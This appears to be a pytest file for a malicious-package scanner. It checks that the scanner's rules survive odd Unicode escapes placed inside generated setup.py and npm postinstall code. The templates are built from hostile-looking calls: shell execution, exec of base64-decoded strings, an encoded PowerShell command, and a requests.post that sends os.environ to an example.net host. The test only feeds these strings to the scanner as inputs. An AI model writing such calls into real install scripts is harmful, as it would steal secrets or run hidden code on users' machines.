"""Literals whose escapes spell what UTF-8 cannot carry, in every kind of call that rules
read: no rule may fail on them (a failing rule hides the file from it) and no evidence may
carry them out (every writer of results needs UTF-8)."""

from __future__ import annotations

import dataclasses
import json
import random

import pytest

from tests.analysis.builders import npm_tarball, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.model import Analysis

ESCAPES = ("\\ud800", "\\udfff", "\\udc80", "\\ud83d", "\\U0010ffff", "\\x00", "\\u202e")
PYTHON_CALLS = (
    "os.system('{s}id')",
    "subprocess.run(['{s}', '{s}'])",
    "exec('{s}')",
    "urllib.request.urlopen('http://{s}.example.net/{s}')",
    "requests.post('https://{s}.example.net', data={{'{s}': dict(os.environ)}})",
    "socket.gethostbyname('{s}' + '.example.net')",
    "__import__('{s}')",
    "getattr(os, '{s}')('x')",
    "exec(base64.b64decode('{s}' + 'aW1wb3J0'))",
    "exec(codecs.decode('{s}', 'rot13'))",
    "open('{s}', 'w').write('{s}')",
    "os.system(''.join(['{s}', 'cu', 'rl']))",
    "print(f'{s}{{os.getlogin()}}')",
    "subprocess.Popen('{s}', shell=True)",
    "os.popen('powershell -enc {s}')",
)
JAVASCRIPT_CALLS = (
    "require('child_process').exec('{s}')",
    "eval(atob('{s}'))",
    "fetch('https://{s}.example.net')",
    "new Function('{s}')()",
    "process.env['{s}']",
)
HEADER = "import os, base64, subprocess, socket, codecs, requests, urllib.request\n"


def _calls(rnd: random.Random, templates: tuple[str, ...]) -> str:
    return "\n".join(rnd.choice(templates).format(s=rnd.choice(ESCAPES) + "abc") for _ in range(6))


def _assert_clean(analysis: Analysis) -> None:
    assert analysis.errors == ()
    json.dumps(dataclasses.asdict(analysis), ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize("seed", range(12))
def test_escapes_in_install_code_fail_no_rule_and_leave_no_evidence_unwritable(
    engine: Engine, seed: int
) -> None:
    rnd = random.Random(seed)
    setup_py = HEADER + _calls(rnd, PYTHON_CALLS) + "\n"
    _assert_clean(engine.analyze(sdist(setup_py=setup_py)))
    hook = {"i.js": _calls(rnd, JAVASCRIPT_CALLS)}
    _assert_clean(engine.analyze(npm_tarball(hook, scripts={"postinstall": "node i.js"})))
